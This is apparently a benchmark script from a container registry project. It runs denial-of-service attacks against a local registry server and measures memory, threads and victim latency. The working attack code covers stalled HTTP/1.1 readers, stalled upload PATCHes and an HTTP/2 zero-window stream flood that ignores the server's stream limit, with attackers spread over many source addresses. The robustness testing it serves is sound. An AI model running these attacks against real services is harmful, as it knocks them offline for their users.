#!/usr/bin/env python3
"""Hostile-client attacks for bench/run.sh's "hostile" phase.

Needs Python >= 3.9 and, for the h2 attack only, the `h2` package (Debian: `python3-h2`,
PyPI: `h2`); everything else is the standard library. run.sh finds an interpreter that can
`import h2` (see bench/README.md) and runs every subcommand with it.

  hostile.py seed BASE REPO TAG BLOB_MIB
      pushes one single-layer image (a random BLOB_MIB MiB layer, a config, an OCI manifest)
      to BASE (http://HOST:PORT) and checks that the layer can be fetched; prints
      "LAYER_DIGEST MANIFEST_DIGEST".
  hostile.py ready BASE TIMEOUT_S PID
      polls GET BASE/v2/ (http or https, certificate not checked) until it answers 200 or
      401; exit 1 on timeout or if process PID dies.
  hostile.py attack --kind readers|writers|h2 --base BASE --pid PID ... (see --help)
      runs one attack against the server at BASE (process PID) while a separate victim
      process measures manifest GETs, and prints `key<TAB>value` lines (see RESULT KEYS).
  hostile.py victim ...   (internal: the victim process started by `attack`)

The attacks (each holds its attackers for --duration seconds, then closes them all):
  readers  N HTTP/1.1 connections, each with SO_RCVBUF=--rcvbuf set before connect, send
           `GET /v2/REPO/blobs/LAYER` and never read a byte.
  writers  N connections, each `POST /v2/REPO/blobs/uploads/` (read the 202 and its
           Location), then on the same connection `PATCH Location` announcing
           `Content-Length: --announce` and sending --send bytes of it, then nothing.
  h2       C HTTP/2 connections (TLS with ALPN h2 for an https BASE, prior-knowledge h2c for
           http) whose SETTINGS say INITIAL_WINDOW_SIZE=0, each opening S streams that GET
           the layer; the client never sends a WINDOW_UPDATE, so no DATA may flow. The
           server's SETTINGS_MAX_CONCURRENT_STREAMS is not obeyed (an attacker would not):
           streams past it are still opened and the server's answer (usually RST_STREAM
           REFUSED_STREAM) is counted.

What is measured (RESULT KEYS, all printed by `attack`):
  rss_idle_kb, threads_idle    VmRSS / Threads of PID just before the attack
  rss_peak_kb, threads_peak    peak from the attack's start until rss_after is read (the
                               attackers' close can cost threads too): VmRSS and Threads
                               sampled every 50 ms, and VmHWM after `echo 5 > clear_refs`
                               when that is writable (rss_peak_src says which)
  threads_peak_during, threads_peak_after
                               the Threads peak split at the attackers' close
  threads_end                  Threads at the end of the hold, just before the close (idle
                               pool threads that the victim's requests keep waking count)
  rss_after_kb, threads_after  VmRSS / Threads --after seconds after the attackers closed
  setup_s                      time to launch every attacker (connect + request sent)
  att_total, att_accepted, att_refused, att_other, att_status
                               what the attackers got: accepted = a 2xx answer (readers,
                               h2) or, for writers, the PATCH body being waited for (no
                               answer yet, POST got 202); refused = 429 or 503 (or an h2
                               RST_STREAM REFUSED_STREAM / ENHANCE_YOUR_CALM); other =
                               anything else (no answer, connection refused or closed,
                               other statuses); att_status lists every outcome with its
                               count, e.g. "200:600" or "202+pending:530"
  victim_*                     the victim during the attack, before_victim_* during the
                               --baseline seconds before it (idle server, the same victim),
                               after_victim_* during the --after seconds after it: n
                               (requests), ok, err, timeouts, p50_ms, p99_ms, max_ms, errors
                               (kinds with counts)
  died                         1 if the server process was gone at some point
  h2_max_streams               (h2) SETTINGS_MAX_CONCURRENT_STREAMS the server announced

With --sources N > 1 the attackers (h2: the connections) are spread round-robin over the
source addresses 127.1.0.1, 127.1.0.2, ... (N of them): many clients instead of one, so a
per-client limit no longer stops them and the server's global limits are what is tested.

The victim is a separate process (its own interpreter, so the attack's event loop does not
delay it) doing sequential `GET /v2/REPO/manifests/TAG` with the OCI manifest Accept
header, one request every --victim-interval-ms at most, each on a new connection (or one
keep-alive connection with --victim-keepalive) from source address --victim-addr (a
different loopback address than the attackers', so a per-client connection limit on the
server does not lump the victim in with them). A request fails if it takes longer than
--timeout seconds, the connection fails, the status is not 200 or the body's sha256 is not
the manifest digest. Percentiles are over every request, a failed one counted as --timeout
seconds (so p99 shows a timeout as soon as more than 1 % of the requests fail).
"""
import argparse
import asyncio
import ctypes
import hashlib
import http.client
import json
import os
import resource
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from urllib.parse import urlsplit

MANIFEST_TYPE = "application/vnd.oci.image.manifest.v1+json"
CONFIG_TYPE = "application/vnd.oci.image.config.v1+json"
LAYER_TYPE = "application/vnd.oci.image.layer.v1.tar"


class Fail(Exception):
    """A setup step failed: the message is printed and the exit status is 1."""


# ------------------------------------------------------------------ helpers


def split_base(base):
    u = urlsplit(base)
    if u.scheme not in ("http", "https") or not u.hostname or not u.port:
        raise Fail("BASE must look like http://HOST:PORT or https://HOST:PORT (got %r)" % base)
    return u.scheme, u.hostname, u.port


_TLS_CONTEXTS = {}


def insecure_tls(alpn):
    """A client TLS context that checks no certificate, offering ALPN `alpn`; made once per
    `alpn` (building one loads the system CA store, tens of ms, which would otherwise be
    charged to every victim request)."""
    key = tuple(alpn)
    if key not in _TLS_CONTEXTS:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(alpn)
        _TLS_CONTEXTS[key] = ctx
    return _TLS_CONTEXTS[key]


def connection(base, timeout, source=None):
    scheme, host, port = split_base(base)
    src = (source, 0) if source else None
    if scheme == "https":
        return http.client.HTTPSConnection(host, port, timeout=timeout, source_address=src,
                                           context=insecure_tls(["http/1.1"]))
    return http.client.HTTPConnection(host, port, timeout=timeout, source_address=src)


def request(base, method, path, body=None, headers=None, timeout=60):
    c = connection(base, timeout)
    try:
        c.request(method, path, body=body, headers=headers or {})
        r = c.getresponse()
        data = r.read()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, data
    finally:
        c.close()


def location_path(loc):
    u = urlsplit(loc)
    return u.path + ("?" + u.query if u.query else "")


def proc_status(pid):
    """{field: value} of /proc/PID/status for the fields we use, or None if PID is gone."""
    out = {}
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                k, _, v = line.partition(":")
                if k in ("VmRSS", "VmHWM", "Threads", "State"):
                    out[k] = v.split()[0]
    except OSError:
        return None
    if out.get("State") in ("Z", "X"):
        return None
    return out


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def die_with_parent():
    """preexec_fn: the victim gets SIGTERM if the attack process dies (Linux prctl)."""
    try:
        ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG
    except (OSError, AttributeError):
        pass


def percentile(sorted_vals, p):
    if not sorted_vals:
        return None
    k = max(0, min(len(sorted_vals) - 1, int(round(p / 100.0 * len(sorted_vals) + 0.5)) - 1))
    return sorted_vals[k]


# ------------------------------------------------------------------ seed / ready


def cmd_seed(a):
    base = a.base
    layer = os.urandom(a.blob_mib << 20)
    config = json.dumps({"architecture": "amd64", "os": "linux",
                         "rootfs": {"type": "layers",
                                    "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]}},
                        separators=(",", ":")).encode()
    digests = []
    for blob in (layer, config):
        digest = "sha256:" + hashlib.sha256(blob).hexdigest()
        st, h, body = request(base, "POST", "/v2/%s/blobs/uploads/" % a.repo,
                              headers={"Content-Length": "0"})
        if st != 202 or "location" not in h:
            raise Fail("seed: POST /v2/%s/blobs/uploads/ answered %d: %r" % (a.repo, st, body[:300]))
        path = location_path(h["location"])
        path += ("&" if "?" in path else "?") + "digest=" + digest
        st, _, body = request(base, "PUT", path, body=blob,
                              headers={"Content-Type": "application/octet-stream"})
        if st != 201:
            raise Fail("seed: PUT of %s answered %d: %r" % (digest, st, body[:300]))
        digests.append(digest)
    manifest = json.dumps({
        "schemaVersion": 2, "mediaType": MANIFEST_TYPE,
        "config": {"mediaType": CONFIG_TYPE, "digest": digests[1], "size": len(config)},
        "layers": [{"mediaType": LAYER_TYPE, "digest": digests[0], "size": len(layer)}],
    }, separators=(",", ":")).encode()
    mdigest = "sha256:" + hashlib.sha256(manifest).hexdigest()
    st, _, body = request(base, "PUT", "/v2/%s/manifests/%s" % (a.repo, a.tag), body=manifest,
                          headers={"Content-Type": MANIFEST_TYPE})
    if st != 201:
        raise Fail("seed: PUT manifest answered %d: %r" % (st, body[:300]))
    st, _, body = request(base, "GET", "/v2/%s/blobs/%s" % (a.repo, digests[0]))
    if st != 200 or hashlib.sha256(body).hexdigest() != digests[0][7:]:
        raise Fail("seed: GET of the layer answered %d with %d bytes (wrong content)" % (st, len(body)))
    st, _, body = request(base, "GET", "/v2/%s/manifests/%s" % (a.repo, a.tag),
                          headers={"Accept": MANIFEST_TYPE})
    if st != 200 or body != manifest:
        raise Fail("seed: GET of the manifest by tag answered %d (wrong content)" % st)
    print(digests[0], mdigest)


def cmd_ready(a):
    deadline = time.monotonic() + a.timeout
    last = "nothing yet"
    while time.monotonic() < deadline:
        if proc_status(a.pid) is None:
            raise Fail("process %d exited before answering on %s" % (a.pid, a.base))
        try:
            st, _, _ = request(a.base, "GET", "/v2/", timeout=2)
            if st in (200, 401):
                return
            last = "status %d" % st
        except (OSError, http.client.HTTPException) as e:
            last = repr(e)
        time.sleep(0.02)
    raise Fail("%s/v2/ did not answer 200/401 within %ss (last: %s)" % (a.base, a.timeout, last))


# ------------------------------------------------------------------ victim


def cmd_victim(a):
    """Sequential manifest GETs for a.duration seconds; prints one JSON line of stats."""
    path = "/v2/%s/manifests/%s" % (a.repo, a.tag)
    want = a.manifest[7:]
    interval = a.interval_ms / 1000.0
    lat, errors = [], {}
    ok = timeouts = 0
    conn = None
    stop = time.monotonic() + a.duration
    while True:
        t0 = time.monotonic()
        if t0 >= stop:
            break
        err = None
        try:
            if conn is None:
                conn = connection(a.base, a.timeout, a.victim_addr)
            conn.request("GET", path, headers={"Accept": MANIFEST_TYPE})
            r = conn.getresponse()
            body = r.read()
            if r.status != 200:
                err = "status %d" % r.status
            elif hashlib.sha256(body).hexdigest() != want:
                err = "wrong body"
        except socket.timeout:
            err = "timeout"
        except (OSError, http.client.HTTPException) as e:
            err = type(e).__name__
        dt = time.monotonic() - t0
        if err is None and dt > a.timeout:
            err = "timeout"
        if err is not None or not a.keepalive:
            if conn is not None:
                conn.close()
            conn = None
        if err is None:
            ok += 1
            lat.append(dt)
        else:
            timeouts += err == "timeout"
            errors[err] = errors.get(err, 0) + 1
            lat.append(max(dt, a.timeout))
        rest = interval - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
    if conn is not None:
        conn.close()
    lat.sort()
    ms = lambda v: None if v is None else round(v * 1000, 3)
    print(json.dumps({"n": len(lat), "ok": ok, "err": len(lat) - ok, "timeouts": timeouts,
                      "p50_ms": ms(percentile(lat, 50)), "p99_ms": ms(percentile(lat, 99)),
                      "max_ms": ms(lat[-1] if lat else None),
                      "errors": ",".join("%s:%d" % kv for kv in sorted(errors.items())) or "-"}))


def start_victim(a, duration):
    argv = [sys.executable, os.path.abspath(__file__), "victim", "--base", a.victim_base or a.base,
            "--repo", a.repo, "--tag", a.tag, "--manifest", a.manifest,
            "--duration", str(duration), "--timeout", str(a.timeout),
            "--interval-ms", str(a.victim_interval_ms), "--victim-addr", a.victim_addr]
    if a.victim_keepalive:
        argv.append("--keepalive")
    return subprocess.Popen(argv, stdout=subprocess.PIPE, preexec_fn=die_with_parent)


def victim_result(p, timeout):
    try:
        out, _ = p.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        p.kill()
        p.communicate()
        raise Fail("the victim process did not finish in time")
    if p.returncode != 0:
        raise Fail("the victim process failed (exit %d)" % p.returncode)
    return json.loads(out.decode().strip().splitlines()[-1])


# ------------------------------------------------------------------ sampler


class Sampler(threading.Thread):
    """Samples VmRSS and Threads of the server every 50 ms while running."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.rss_peak = 0
        self.threads_peak = 0
        self.threads_window = 0  # peak since the last mark()
        self.died = False
        self.lock = threading.Lock()
        self.halt = threading.Event()

    def mark(self):
        """Threads peak since the previous mark (or the start); starts a new window."""
        self.sample()
        with self.lock:
            peak, self.threads_window = self.threads_window, 0
        return peak

    def sample(self):
        s = proc_status(self.pid)
        if s is None:
            self.died = True
            return
        threads = int(s.get("Threads", 0))
        with self.lock:
            self.rss_peak = max(self.rss_peak, int(s.get("VmRSS", 0)))
            self.threads_peak = max(self.threads_peak, threads)
            self.threads_window = max(self.threads_window, threads)

    def run(self):
        while not self.halt.is_set():
            self.sample()
            self.halt.wait(0.05)
        self.sample()


# ------------------------------------------------------------------ attacks


def source_addr(a, i):
    """Attacker i's source address: None (the kernel's choice, 127.0.0.1 on loopback) with one
    source, else round-robin over --sources addresses 127.1.X.Y."""
    if a.sources <= 1:
        return None
    k = i % a.sources
    return "127.1.%d.%d" % (k // 200, k % 200 + 1)


def bind_source(sock, a, i):
    src = source_addr(a, i)
    if src:
        sock.bind((src, 0))


def classify_status(code):
    if 200 <= code < 300:
        return "accepted"
    if code in (429, 503):
        return "refused"
    return "other"


async def http_head(reader):
    """Reads one HTTP/1.1 response head + Content-Length body: (status, {header: value})."""
    line = await reader.readline()
    if not line:
        raise ConnectionError("closed before a status line")
    parts = line.split()
    status = int(parts[1])
    headers = {}
    while True:
        h = await reader.readline()
        if h in (b"\r\n", b"\n", b""):
            break
        k, _, v = h.decode("latin-1").partition(":")
        headers[k.strip().lower()] = v.strip()
    n = int(headers.get("content-length", "0") or 0)
    if n:
        await reader.readexactly(n)
    return status, headers


class Readers:
    """Stalled readers: GET the layer with a tiny receive buffer and never read."""

    def __init__(self, a):
        self.a = a
        _, self.host, self.port = split_base(a.base)
        self.socks = {}          # attacker -> its socket
        self.outcome = {}        # attacker -> what went wrong before its request was sent

    async def one(self, i):
        loop = asyncio.get_running_loop()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.a.rcvbuf)
        s.setblocking(False)
        self.socks[i] = s
        self.outcome[i] = "not-started"
        try:
            bind_source(s, self.a, i)
            await asyncio.wait_for(loop.sock_connect(s, (self.host, self.port)), self.a.timeout)
            req = ("GET /v2/%s/blobs/%s HTTP/1.1\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n"
                   % (self.a.repo, self.a.blob, self.host, self.port)).encode()
            await asyncio.wait_for(loop.sock_sendall(s, req), self.a.timeout)
            del self.outcome[i]
        except asyncio.TimeoutError:
            self.outcome[i] = "connect-timeout"
        except OSError as e:
            self.outcome[i] = "connect-" + type(e).__name__

    async def launch(self):
        await asyncio.gather(*(self.one(i) for i in range(self.a.count)))

    def classify(self):
        out = []
        for i in range(self.a.count):
            s = self.socks.get(i)
            if s is None or i in self.outcome:
                out.append(self.outcome.get(i, "not-started"))
                continue
            try:
                head = s.recv(64, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            except BlockingIOError:
                out.append("no-answer")
                continue
            except OSError as e:
                out.append("conn-" + type(e).__name__)
                continue
            if not head:
                out.append("closed")
                continue
            parts = head.split(None, 2)
            try:
                out.append(str(int(parts[1])))
            except (IndexError, ValueError):
                out.append("garbage")
        return out

    def close(self):
        for s in self.socks.values():
            s.close()


class Writers:
    """Stalled writers: POST an upload, PATCH it announcing many bytes, send a few, stall."""

    def __init__(self, a):
        self.a = a
        _, self.host, self.port = split_base(a.base)
        self.conns = {}          # attacker -> its socket, then its asyncio StreamWriter
        self.outcome = {}
        self.tasks = []

    async def one(self, i):
        a = self.a
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.conns[i] = s
            s.setblocking(False)
            bind_source(s, self.a, i)
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(s, (self.host, self.port)),
                                   a.timeout)
            reader, writer = await asyncio.open_connection(sock=s)
            self.conns[i] = writer
            writer.write(("POST /v2/%s/blobs/uploads/ HTTP/1.1\r\nHost: %s:%d\r\n"
                          "Content-Length: 0\r\n\r\n" % (a.repo, self.host, self.port)).encode())
            status, headers = await asyncio.wait_for(http_head(reader), a.timeout)
            if status != 202 or "location" not in headers:
                self.outcome[i] = "post-%d" % status
                return
            writer.write(("PATCH %s HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/octet-stream\r\n"
                          "Content-Length: %d\r\n\r\n" % (location_path(headers["location"]), self.host,
                                                        self.port, a.announce)).encode()
                         + os.urandom(a.send))
            await writer.drain()
            self.outcome[i] = "202+pending"
            self.tasks.append(asyncio.ensure_future(self.answer(i, reader)))
        except asyncio.TimeoutError:
            self.outcome[i] = "timeout"
        except (OSError, ValueError, IndexError, asyncio.IncompleteReadError) as e:
            self.outcome[i] = "conn-" + type(e).__name__

    async def answer(self, i, reader):
        """Records the PATCH's answer if the server sends one before the attacker gives up."""
        try:
            status, _ = await http_head(reader)
            self.outcome[i] = "patch-%d" % status
        except (OSError, ValueError, IndexError, asyncio.IncompleteReadError) as e:
            self.outcome[i] = "patch-" + type(e).__name__

    async def launch(self):
        await asyncio.gather(*(self.one(i) for i in range(self.a.count)))

    def classify(self):
        return [self.outcome.get(i, "not-started") for i in range(self.a.count)]

    @staticmethod
    def kind(outcome):
        if outcome == "202+pending":
            return "accepted"
        for prefix in ("post-", "patch-"):
            if outcome.startswith(prefix) and outcome[len(prefix):].isdigit():
                code = int(outcome[len(prefix):])
                return "refused" if code in (429, 503) else "other"
        return "other"

    def close(self):
        for t in self.tasks:
            t.cancel()
        for w in self.conns.values():
            w.close()


class H2Window0:
    """h2 with INITIAL_WINDOW_SIZE=0: many streams GET the layer; no DATA may ever flow."""

    def __init__(self, a):
        import h2.config
        import h2.connection
        import h2.events
        import h2.settings
        self.h2 = h2
        self.a = a
        self.scheme, self.host, self.port = split_base(a.base)

        class AttackConnection(h2.connection.H2Connection):
            # Ignore the server's SETTINGS_MAX_CONCURRENT_STREAMS (only send_headers reads this).
            @property
            def open_outbound_streams(self):
                return 0

        self.conn_cls = AttackConnection
        self.outcome = {}        # (conn, stream) -> outcome
        self.transports = []
        self.tasks = []
        self.max_streams = None

    async def one(self, c):
        h2 = self.h2
        a = self.a
        sc = h2.settings.SettingCodes
        keys = [(c, s) for s in range(a.streams)]
        src = source_addr(a, c)
        local = (src, 0) if src else None
        try:
            if self.scheme == "https":
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    self.host, self.port, ssl=insecure_tls(["h2"]), server_hostname=None,
                    local_addr=local), a.timeout)
                proto = writer.get_extra_info("ssl_object").selected_alpn_protocol()
                if proto != "h2":
                    raise Fail("%s did not negotiate h2 over TLS (ALPN answer %r)" % (a.base, proto))
            else:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(self.host, self.port, local_addr=local), a.timeout)
        except (OSError, asyncio.TimeoutError) as e:
            for k in keys:
                self.outcome[k] = "connect-" + type(e).__name__
            return
        self.transports.append(writer)
        conn = self.conn_cls(config=h2.config.H2Configuration(client_side=True, header_encoding=None))
        conn.local_settings = h2.settings.Settings(
            client=True, initial_values={sc.INITIAL_WINDOW_SIZE: 0, sc.ENABLE_PUSH: 0})
        conn.initiate_connection()
        sids = {}
        for s in range(a.streams):
            sid = conn.get_next_available_stream_id()
            sids[sid] = (c, s)
            self.outcome[(c, s)] = "no-answer"
            conn.send_headers(sid, [(b":method", b"GET"), (b":scheme", self.scheme.encode()),
                                    (b":authority", ("%s:%d" % (self.host, self.port)).encode()),
                                    (b":path", ("/v2/%s/blobs/%s" % (a.repo, a.blob)).encode()),
                                    (b"accept", b"*/*")], end_stream=True)
        writer.write(conn.data_to_send())
        self.tasks.append(asyncio.ensure_future(self.pump(conn, reader, writer, sids)))

    async def pump(self, conn, reader, writer, sids):
        ev = self.h2.events
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    for k, v in self.outcome.items():
                        if k in sids.values() and v == "no-answer":
                            self.outcome[k] = "closed"
                    return
                for e in conn.receive_data(data):
                    if isinstance(e, ev.ResponseReceived):
                        status = dict(e.headers).get(b":status", b"?").decode()
                        self.outcome[sids[e.stream_id]] = status
                    elif isinstance(e, ev.StreamReset) and e.stream_id in sids:
                        if self.outcome[sids[e.stream_id]] == "no-answer":
                            self.outcome[sids[e.stream_id]] = "rst-" + getattr(e.error_code, "name",
                                                                               str(e.error_code))
                    elif isinstance(e, ev.RemoteSettingsChanged):
                        mcs = e.changed_settings.get(self.h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                        if mcs is not None:
                            self.max_streams = mcs.new_value
                    elif isinstance(e, ev.ConnectionTerminated):
                        for sid, k in sids.items():
                            if self.outcome[k] == "no-answer" and (e.last_stream_id is None
                                                                   or sid > e.last_stream_id):
                                self.outcome[k] = "goaway"
                out = conn.data_to_send()
                if out:
                    writer.write(out)
        except asyncio.CancelledError:
            raise
        except Exception as e:  # a protocol error from h2 or the socket: keep what we have
            for k in sids.values():
                if self.outcome[k] == "no-answer":
                    self.outcome[k] = "conn-" + type(e).__name__

    async def launch(self):
        await asyncio.gather(*(self.one(c) for c in range(self.a.count)))

    def classify(self):
        return [self.outcome.get((c, s), "not-started")
                for c in range(self.a.count) for s in range(self.a.streams)]

    @staticmethod
    def kind(outcome):
        if outcome.isdigit():
            return classify_status(int(outcome))
        if outcome in ("rst-REFUSED_STREAM", "rst-ENHANCE_YOUR_CALM"):
            return "refused"
        return "other"

    def close(self):
        for t in self.tasks:
            t.cancel()
        for w in self.transports:
            w.close()


def reader_kind(outcome):
    return classify_status(int(outcome)) if outcome.isdigit() else "other"


async def run_attack(a, res):
    attack = {"readers": Readers, "writers": Writers, "h2": H2Window0}[a.kind](a)
    kind = {"readers": reader_kind, "writers": Writers.kind, "h2": H2Window0.kind}[a.kind]
    idle = proc_status(a.pid)
    if idle is None:
        raise Fail("server process %d is not running" % a.pid)
    res["rss_idle_kb"] = idle["VmRSS"]
    res["threads_idle"] = idle["Threads"]
    if a.baseline > 0:
        loop = asyncio.get_running_loop()
        base = await loop.run_in_executor(None, victim_result, start_victim(a, a.baseline), a.timeout + 30)
        for k, v in base.items():
            res["before_victim_" + k] = v
    hwm = True
    try:
        with open("/proc/%d/clear_refs" % a.pid, "w") as f:
            f.write("5")
    except OSError:
        hwm = False
    sampler = Sampler(a.pid)
    sampler.start()
    victim = None
    try:
        t0 = time.monotonic()
        launch = asyncio.ensure_future(attack.launch())
        try:
            await asyncio.wait_for(asyncio.shield(launch), a.setup_timeout)
        except asyncio.TimeoutError:
            # Attackers still connecting count as what they got so far ("not-started", ...).
            launch.cancel()
            res["setup_timed_out"] = 1
        res["setup_s"] = "%.3f" % (time.monotonic() - t0)
        victim = start_victim(a, a.duration)
        await asyncio.sleep(a.duration)
        loop = asyncio.get_running_loop()
        # The victim may still be inside a request (up to --timeout): keep the attack up until
        # it is done, so every victim request is measured under attack.
        vres = await loop.run_in_executor(None, victim_result, victim, a.timeout + 30)
        victim = None
        outcomes = attack.classify()
        res["threads_peak_during"] = sampler.mark()
        st = proc_status(a.pid)
        res["threads_end"] = st["Threads"] if st else "gone"
    finally:
        attack.close()
        if victim is not None:
            victim.kill()
            victim.wait()
    for k, v in vres.items():
        res["victim_" + k] = v
    counts = {}
    for o in outcomes:
        counts[o] = counts.get(o, 0) + 1
    kinds = {"accepted": 0, "refused": 0, "other": 0}
    for o, n in counts.items():
        kinds[kind(o)] += n
    res["att_total"] = len(outcomes)
    res["att_accepted"] = kinds["accepted"]
    res["att_refused"] = kinds["refused"]
    res["att_other"] = kinds["other"]
    res["att_status"] = " ".join("%s:%d" % kv for kv in sorted(counts.items(), key=lambda kv: -kv[1]))
    if a.kind == "h2":
        res["h2_max_streams"] = attack.max_streams if attack.max_streams is not None else "none"
    # after: attackers are gone; a second victim measures recovery, RSS is read at the end.
    closed = time.monotonic()
    after = start_victim(a, a.after)
    await asyncio.sleep(max(0.0, a.after - (time.monotonic() - closed)))
    st = proc_status(a.pid)
    res["threads_peak_after"] = sampler.mark()
    if hwm and st is not None:
        sampler.rss_peak = max(sampler.rss_peak, int(st.get("VmHWM", 0)))
    sampler.halt.set()
    sampler.join()
    res["rss_peak_kb"] = sampler.rss_peak
    res["rss_peak_src"] = "VmHWM+sampled" if hwm else "sampled every 50 ms"
    res["threads_peak"] = sampler.threads_peak
    ares = await asyncio.get_running_loop().run_in_executor(None, victim_result, after, a.timeout + 30)
    if st is None:
        sampler.died = True
    else:
        res["rss_after_kb"] = st["VmRSS"]
        res["threads_after"] = st["Threads"]
    for k, v in ares.items():
        res["after_victim_" + k] = v
    res["died"] = int(sampler.died or proc_status(a.pid) is None)


def cmd_attack(a):
    nofile = raise_nofile()
    need = a.count * (a.streams if a.kind == "h2" else 1)
    if a.kind != "h2" and nofile < a.count + 64:
        raise Fail("RLIMIT_NOFILE is %d, need at least %d for %d attackers (ulimit -n)"
                   % (nofile, a.count + 64, a.count))
    if a.kind != "h2" and a.base.startswith("https:"):
        raise Fail("the %s attack speaks plain HTTP/1.1: give an http:// BASE" % a.kind)
    res = {"kind": a.kind, "attackers": need}
    asyncio.run(run_attack(a, res))
    for k, v in res.items():
        print("%s\t%s" % (k, v))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("seed")
    s.add_argument("base")
    s.add_argument("repo")
    s.add_argument("tag")
    s.add_argument("blob_mib", type=int)
    r = sub.add_parser("ready")
    r.add_argument("base")
    r.add_argument("timeout", type=float)
    r.add_argument("pid", type=int)
    for name in ("attack", "victim"):
        x = sub.add_parser(name)
        x.add_argument("--base", required=True, help="http(s)://HOST:PORT of the server")
        x.add_argument("--repo", required=True)
        x.add_argument("--tag", required=True)
        x.add_argument("--manifest", required=True, help="digest of the manifest at TAG")
        x.add_argument("--timeout", type=float, default=10.0, help="per-request timeout (s)")
        x.add_argument("--victim-addr", default="127.0.0.2", help="victim's source address")
        x.add_argument("--duration", type=float, default=20.0, help="how long the attack holds (s)")
    v = sub.choices["victim"]
    v.add_argument("--interval-ms", type=float, default=10.0)
    v.add_argument("--keepalive", action="store_true")
    x = sub.choices["attack"]
    x.add_argument("--kind", required=True, choices=("readers", "writers", "h2"))
    x.add_argument("--pid", type=int, required=True, help="the server's process id")
    x.add_argument("--blob", required=True, help="digest of the big layer to GET")
    x.add_argument("--count", type=int, required=True, help="attackers (h2: connections)")
    x.add_argument("--streams", type=int, default=200, help="h2: streams per connection")
    x.add_argument("--rcvbuf", type=int, default=4096, help="readers: SO_RCVBUF")
    x.add_argument("--announce", type=int, default=10_000_000, help="writers: Content-Length")
    x.add_argument("--send", type=int, default=100, help="writers: bytes actually sent")
    x.add_argument("--sources", type=int, default=1,
                   help="spread the attackers (h2: connections) over this many source addresses")
    x.add_argument("--after", type=float, default=5.0, help="seconds after the attack until RSS is read")
    x.add_argument("--baseline", type=float, default=2.0, help="seconds of victim before the attack")
    x.add_argument("--setup-timeout", type=float, default=60.0, help="max time to launch attackers")
    x.add_argument("--victim-base", help="victim's base URL (default: --base)")
    x.add_argument("--victim-interval-ms", type=float, default=10.0)
    x.add_argument("--victim-keepalive", action="store_true")
    a = p.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    try:
        {"seed": cmd_seed, "ready": cmd_ready, "attack": cmd_attack, "victim": cmd_victim}[a.cmd](a)
    except Fail as e:
        print("hostile.py %s: %s" % (a.cmd, e), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
